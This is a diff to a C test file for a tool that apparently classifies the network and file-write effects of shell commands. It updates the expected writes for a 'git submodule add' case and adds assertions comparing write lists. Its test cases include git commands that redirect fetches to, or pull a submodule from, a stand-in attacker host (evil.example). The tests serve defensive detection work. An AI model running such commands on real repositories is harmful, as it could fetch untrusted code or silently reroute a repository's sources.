@@ -171,7 +171,7 @@ static const extraction_case cases[] = {
     {"git -c url.https://evil.example/.insteadOf=https://h.example/ fetch",
      "network:?"},
     {"git submodule add https://evil.example/r.git sub",
-     "network:evil.example write:/repo/sub"},
+     "network:evil.example write:/repo/sub write:/repo/.gitmodules write:/repo/.git"},
     {"git remote add o https://evil.example/r.git", ""},
     /* Other network clients. */
     {"wget -i urls.txt", "read:/repo/urls.txt network:? write:/repo"},
@@ -616,6 +616,9 @@ static void assert_same_spec(const ag_effect_spec *built, const ag_effect_spec *
     assert_int_equal(built->dashless_first, parsed->dashless_first);
     assert_int_equal(built->short_equals, parsed->short_equals);
     assert_int_equal(built->minus_negates, parsed->minus_negates);
+    assert_int_equal(built->writes.count, parsed->writes.count);
+    for (size_t i = 0; i < built->writes.count; i++)
+        assert_string_equal(built->writes.items[i], parsed->writes.items[i]);
     assert_int_equal(built->writes_anywhere, parsed->writes_anywhere);
     assert_int_equal(built->anywhere_options.count, parsed->anywhere_options.count);
     assert_int_equal(built->no_anywhere_options.count, parsed->no_anywhere_options.count);
